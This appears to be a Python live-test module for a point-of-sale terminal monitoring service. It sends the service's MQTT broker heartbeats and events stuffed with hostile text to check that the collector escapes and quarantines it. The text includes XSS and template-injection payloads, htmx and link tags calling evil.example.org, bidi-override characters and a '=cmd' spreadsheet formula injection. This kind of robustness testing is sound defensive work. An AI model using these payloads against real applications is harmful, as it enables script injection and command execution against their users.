"""A terminal that says the worst that the wire lets it say, in every field, through the real broker.

Each text would run a script, break out of an attribute, turn a line around, or be longer than anybody thought.
"""

import json
from collections.abc import Mapping
from typing import Any, Final

import paho.mqtt.client as mqtt
from paho.mqtt.enums import CallbackAPIVersion
from tests.live.stack import Collector

from tillwatch_protocol import topics
from tillwatch_protocol.vocabulary import PAYLOAD_BYTES_MAX, TEXT_CHARS_MAX

MARK: Final = "hacked"
"""What a script would set on the window, had it run."""

TEXTS: Final = (
    f"<script>window.{MARK}=1;alert(1)</script>",
    f'"\'><img src=x onerror="window.{MARK}=1;alert(1)">',
    f"</title></textarea></script><svg onload='window.{MARK}=1;alert(1)'>",
    f"javascript:window.{MARK}=1",
    f"' onmouseover='window.{MARK}=1' autofocus onfocus='alert(1)' x='",
    "{{ 7*7 }}{% raw %}${7*7}#{7*7}<%= 7*7 %>",
    "hx-get=/signout hx-trigger=load <b hx-get='https://evil.example.org/' hx-trigger='load'>x</b>",
    "https://evil.example.org/ <a href='https://evil.example.org/'>x</a><link rel=stylesheet href=//evil.example.org>",
    "\u202eThis line runs backwards\u202c \u200b\u2066\u2069\ufeff",
    "مرحبا שלום 缺纸 🧾 e\u0301\u0302\u0303\u0304\u0305",
    "null",
    "&lt;b&gt; &amp; &#60;script&#62;",
    "=cmd|' /C calc'!A1",
)

EDGES: Final = (
    "<" * TEXT_CHARS_MAX,
    "W" * TEXT_CHARS_MAX,
    "\U0001f4a9" * TEXT_CHARS_MAX,
    "'\"" * (TEXT_CHARS_MAX // 2),
)

CODE: Final = "x" * 48
COMPONENT: Final = f"{'k' * 48}:{'N' * 48}"

GARBAGE: Final = (
    b"{" + TEXTS[0].encode(),
    TEXTS[1].encode(),
    b"\x00\xff\xfe<script>alert(1)</script>",
    b"null",
    b"[" * 10_000,
    json.dumps({"v": 1, "terminal_id": TEXTS[0]}).encode(),
    json.dumps({"v": TEXTS[0]}).encode(),
)
"""What the collector does not understand, and shows in its quarantine."""


def heartbeat(terminal_id: str, beat_no: int, sent_at: str) -> bytes:
    """Say everything that is bad; as much of it as fits below the limit, to the last byte."""
    components: list[dict[str, Any]] = []
    said = _heartbeat(terminal_id, beat_no, sent_at, components)
    for number, text in enumerate((*TEXTS, *EDGES)):
        components.append(_component(number, text, sent_at))
        if len(_written(said)) > PAYLOAD_BYTES_MAX:
            components.pop()
    return _filled(said)


def _filled(said: dict[str, Any]) -> bytes:
    """Fill a payload to exactly its limit, by a field that nobody knows."""
    room = PAYLOAD_BYTES_MAX - len(_written(said | {"more": ""}))
    assert room >= 0
    return _written(said | {"more": "<" * room})


def _heartbeat(terminal_id: str, beat_no: int, sent_at: str, components: list[dict[str, Any]]) -> dict[str, Any]:
    return {
        "v": 1,
        "terminal_id": terminal_id,
        "connection": {"stream_id": "f" * 32, "boot_epoch": 1, "connection_no": 1},
        "beat_no": beat_no,
        "interval_s": 1,
        "event_seq_last": 0,
        "sent_at": sent_at,
        "host_boot_id": "boot-1",
        "agent_version": TEXTS[0],
        "components": components,
    }


def _component(number: int, text: str, since: str) -> dict[str, Any]:
    detail = text[:TEXT_CHARS_MAX]
    return {
        "component": f"pos_printer:p{number}" if number else COMPONENT,
        "health": "fault",
        "reason": None,
        "conditions": [
            {"code": "cover_open" if number % 2 else CODE, "since": since, "detail": detail},
            {"code": f"{CODE[:40]}{number}", "since": since, "detail": detail},
        ],
        "measures": {CODE: -(2**63 - 1), "tls_ms": 1e308, "rsrp_dbm": -0.0, f"m{number}": 5e-324},
        "facts": {"model": detail, "version": detail, "serial_number": detail, CODE: detail, "maker": detail},
    }


def events(terminal_id: str, happened_at: str) -> bytes:
    """Tell of things that happened, each with a bad detail."""
    told = [
        {
            "event_seq": number,
            "boot_epoch": 1,
            "kind": "condition_raised" if number % 2 else "k" * 48,
            "happened_at": happened_at,
            "component": COMPONENT,
            "code": CODE,
            "detail": text[:TEXT_CHARS_MAX],
        }
        for number, text in enumerate((*TEXTS, *EDGES), start=1)
    ]
    batch = {"v": 1, "terminal_id": terminal_id, "stream_id": "f" * 32, "oldest_seq": 1, "events": told}
    return _written(batch)


def _written(said: Mapping[str, Any]) -> bytes:
    return json.dumps(said, ensure_ascii=False, separators=(",", ":")).encode()


class Attacker:
    """Somebody who holds a terminal's password, and speaks as any terminal."""

    def __init__(self, collector: Collector, terminal_id: str) -> None:
        self.terminal_id = terminal_id
        self._client = mqtt.Client(CallbackAPIVersion.VERSION2, client_id=terminal_id)
        self._client.username_pw_set(terminal_id, collector.broker["terminal_password"])
        self._client.connect(collector.broker["host"], collector.broker["port"])
        self._client.loop_start()

    def close(self) -> None:
        self._client.disconnect()
        self._client.loop_stop()

    def beat(self, beat_no: int, sent_at: str) -> None:
        self._send(topics.HEARTBEAT, heartbeat(self.terminal_id, beat_no, sent_at))

    def tell(self, happened_at: str) -> None:
        self._send(topics.EVENTS, events(self.terminal_id, happened_at))

    def rave(self) -> None:
        for payload in GARBAGE:
            self._send(topics.HEARTBEAT, payload)

    def _send(self, topic: topics.Topic, payload: bytes) -> None:
        self._client.publish(topic.of(self.terminal_id), payload, qos=1).wait_for_publish(30)
